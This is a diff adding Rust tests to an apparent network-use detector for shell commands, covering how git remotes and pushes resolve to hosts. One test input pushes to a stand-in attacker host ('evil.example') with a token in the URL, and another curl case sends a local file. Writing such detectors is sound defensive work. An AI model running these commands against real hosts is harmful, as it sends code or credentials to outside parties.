@@ -112,6 +112,33 @@ const HTTP_CASES: &[(&str, Expected)] = &[
     ("curlie post https://httpbin.example/post name=x", &[("httpbin.example", true)]),
 ];
 
+/// git, with the remotes of the test repository.
+const GIT_CASES: &[(&str, Expected)] = &[
+    ("git clone https://github.com/o/r.git", &[("github.com", false)]),
+    ("git clone git@GitLab.com:org/repo.git", &[("gitlab.com", false)]),
+    ("git clone -b main ssh://git@git.example.com:2222/r.git dir", &[("git.example.com", false)]),
+    ("git clone --depth 1 -- ./local/repo copy", &[]),
+    ("git push", &[("github.com", true)]),
+    ("git push origin main", &[("github.com", true)]),
+    ("git push -u fork feature/x", &[("push.example.com", true)]),
+    ("git fetch fork", &[("gitlab.example.com", false)]),
+    ("git pull --rebase", &[("github.com", false)]),
+    ("git fetch --all", &[("github.com", false), ("gitlab.example.com", false)]),
+    ("git fetch both", &[("github.com", false), ("gitlab.example.com", false)]),
+    ("git ls-remote https://gh.invalid/o/r", &[("mirror.example.org", false)]),
+    ("git remote add upstream git@bitbucket.org:team/r.git", &[("bitbucket.org", false)]),
+    ("git push https://token@evil.example/x.git HEAD", &[("evil.example", true)]),
+    ("git push $REMOTE main", &[("?$REMOTE", true)]),
+    ("git -c branch.main.pushremote=fork push", &[("push.example.com", true)]),
+    // git pushes to every `url` of a remote without a `pushurl`; `-c` adds one.
+    ("git -c remote.origin.url=https://other.example/r.git push", &[("github.com", true), ("other.example", true)]),
+    ("git -c remote.up.url=https://other.example/r.git push up", &[("other.example", true)]),
+    ("git push ../backup.git main", &[]),
+    ("git push nosuchremote", &[]),
+    ("git status", &[]),
+    ("git archive --remote=git@h.example:r.git HEAD", &[("h.example", false)]),
+];
+
 fn shown(uses: &[NetUse]) -> Vec<(String, bool)> {
     uses.iter()
         .map(|u| {
@@ -152,6 +179,11 @@ fn http_clients() {
 }
 
 #[test]
+fn git_remotes() {
+    check(GIT_CASES);
+}
+
+#[test]
 fn curl_sends_are_described() {
     let u = uses_in("curl -d @notes.txt https://h.example", ctx());
     assert_eq!(u[0].send.as_deref(), Some("a request body (-d @notes.txt)"));
@@ -163,6 +195,30 @@ fn curl_sends_are_described() {
         u[0].send.as_deref(),
         Some("a request body (--data-binary @- with standard input (the output of `cat notes.txt`))")
     );
+}
+
+/// Without reading files, a remote name cannot be resolved: its host is unknown.
+#[test]
+fn remotes_unknown_without_reading_files() {
+    let mut c = ctx().clone();
+    c.read_files = false;
+    let u = uses_in("git push", &c);
+    assert_eq!(u.len(), 1);
+    assert_eq!(u[0].host, Host::Unknown("the URL of git remote origin".into()));
+    let u = uses_in("git push git@github.com:o/r.git", &c);
+    assert_eq!(u[0].host, Host::Known("github.com".into()));
+    // Outside the workspace, its configuration says nothing.
+    let u = uses_in("cd /tmp && git push", ctx());
+    assert_eq!(u[0].host, Host::Unknown("the URL of git remote origin".into()));
+    let u = uses_in("git -C ../other push", ctx());
+    assert!(matches!(u[0].host, Host::Unknown(_)));
+}
+
+#[test]
+fn git_push_described() {
+    let u = uses_in("git push", ctx());
+    assert_eq!(u[0].program, "git push");
+    assert_eq!(u[0].send.as_deref(), Some("commits (git push)"));
 }
 
 #[test]
